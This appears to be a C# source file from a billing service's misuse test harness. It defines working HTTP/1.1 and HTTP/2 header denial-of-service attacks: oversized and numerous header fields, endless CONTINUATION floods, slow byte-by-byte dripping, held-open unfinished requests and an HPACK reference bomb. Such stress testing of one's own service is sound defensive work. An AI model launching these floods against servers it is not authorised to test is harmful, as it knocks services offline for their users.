using Billing.Misuse.Connections;
using Billing.Misuse.Frames;
using static Billing.Misuse.Attacks.Parts;
using static Billing.Misuse.Attacks.Steps;

namespace Billing.Misuse.Attacks;

/// <summary>Attacks with the headers of requests.</summary>
internal static class HeaderAttacks
{
    private const int ReferencesToField = 4_000;
    private static readonly Layout[] Few = [new(1, 1000), new(20, 1000), new(100, 100)];
    private static readonly Layout[] Many = [new(20, 1), new(1000, 1)];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<Attack> All { get; } =
    [
        new("headers-huge", Phase.Headers, "one field of up to a megabyte")
        {
            Layouts = Few,
            Http2 = Sequence(Begin, Each(InFrames(requests => requests.Fields(
                requests.Payment(), ("x-huge", new string('x', 1_000_000)))))),
            Http1 = Sequence(Read, Each(Text(connection => connection.Requests.Head(
                connection.Requests.Payment(), 0,
                ("X-Huge", new string('x', connection.Random.Next(20_000, 1_000_000)))) + "\r\n"))),
        },
        new("headers-many", Phase.Headers, "ten thousand small fields")
        {
            Layouts = Few,
            Http2 = Sequence(Begin, Each(InFrames(requests => requests.Fields(requests.Payment(), Small())))),
            Http1 = Sequence(Read, Each(Text(connection => connection.Requests.Head(
                connection.Requests.Payment(), 0, Small()) + "\r\n"))),
        },
        new("headers-endless", Phase.Headers, "fields without end: a flood of CONTINUATION, or of lines")
        {
            Layouts = [new(1, 1), new(20, 1), new(100, 1)],
            Http2 = Sequence(
                Begin, New(Sequence(
                    Send(connection => Http2Frames.Frame(
                        FrameKind.Headers, 0, connection.StreamId,
                        connection.Requests.Fields(connection.Requests.Payment()))),
                    Repeat(Send(connection => Http2Frames.Frame(
                        FrameKind.Continuation, 0, connection.StreamId,
                        Http2Frames.Fields(($"x-{connection.Random.Next():x}", "y")))))))),
            Http1 = Sequence(
                Read, Text(connection => connection.Requests.Head(connection.Requests.Payment(), 0)),
                Repeat(Text(connection => $"X-{connection.Random.Next():x}: y\r\n"))),
        },
        new("headers-empty-frames", Phase.Headers, "CONTINUATION frames with nothing in them, without end")
        {
            Layouts = [new(1, 1), new(20, 1)],
            Http2 = Sequence(
                Begin, New(Sequence(
                    Send(connection => Http2Frames.Frame(FrameKind.Headers, 0, connection.StreamId)),
                    Repeat(Send(connection =>
                        Http2Frames.Frame(FrameKind.Continuation, 0, connection.StreamId)))))),
        },
        new("headers-dripped", Phase.Headers, "the fields of a request, byte by byte")
        {
            Layouts = Many,
            Http2 = Sequence(Begin, New(Drip(5, connection => Http2Frames.Frame(
                FrameKind.Headers, Http2Frames.EndHeaders, connection.StreamId,
                connection.Requests.Fields(connection.Requests.Payment())))), Hold),
            Http1 = Sequence(
                Read, Drip(5, connection => connection.Requests.Whole(connection.Requests.Payment())), Hold),
        },
        new("headers-unfinished", Phase.Headers, "the first part of the fields, and no more")
        {
            Layouts = Many,
            Http2 = Sequence(Begin, New(Send(connection => Http2Frames.Frame(
                FrameKind.Headers, 0, connection.StreamId,
                connection.Requests.Fields(connection.Requests.Payment())))), Hold),
            Http1 = Sequence(
                Read, Text(connection => connection.Requests.Head(connection.Requests.Payment(), 1)), Hold),
        },
        new("headers-bomb", Phase.Headers, "a large field in the table of HPACK, named four thousand times")
        {
            Layouts = Few,
            Http2 = Sequence(Begin, Each(InFrames(Bomb))),
        },
    ];

    private static IEnumerable<(string Name, string Value)> Small() =>
        Enumerable.Range(0, 10_000).Select(number => ($"x-{number}", "y"));

    private static byte[] Bomb(Requests requests) =>
    [
        .. requests.Fields(requests.Payment()), .. Http2Frames.KeptField("x-large", new string('x', 3_900)),
        // The newest entry of the table has the first index after those of the static one (RFC 7541, section 2.3.3).
        .. Enumerable.Repeat((byte)(0x80 | 62), ReferencesToField),
    ];

    // Fields in as many frames as they need.
    private static Step InFrames(Func<Requests, byte[]> fields) => async (connection, end) =>
    {
        var all = fields(connection.Requests);
        for (var at = 0; at < all.Length && !connection.Over.IsCompleted; at += Http2Frames.PayloadMax)
        {
            var part = all.AsSpan(at, Math.Min(Http2Frames.PayloadMax, all.Length - at));
            var isLast = at + part.Length == all.Length;
            await connection.SendAsync(
                Http2Frames.Frame(
                    at == 0 ? FrameKind.Headers : FrameKind.Continuation,
                    (byte)((isLast ? Http2Frames.EndHeaders : 0) | (at == 0 ? Http2Frames.EndStream : 0)),
                    connection.StreamId, part),
                end);
        }
    };
}
